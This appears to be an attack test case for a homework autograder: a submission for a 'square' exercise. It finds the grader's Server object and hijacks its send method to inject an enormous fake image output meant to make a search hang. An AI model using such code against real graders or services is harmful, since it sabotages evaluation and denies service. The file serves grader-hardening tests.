# attack: a picture of millions of spaces and a mark, over which a search takes for ever
# assignment: hw
# exercise: square
# status: ok
# score: 2
import gc

server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
genuine = server.send
data = {"image/png": " " * 3_000_000 + "!"}
picture = {"output_type": "display_data", "data": data, "metadata": {}}


def send(message):
    number, *parts = message
    if len(parts) == 3:
        server.send = genuine
        parts[1] = [picture]
    genuine((number, *parts))


server.send = send


def square(x):
    return x * x
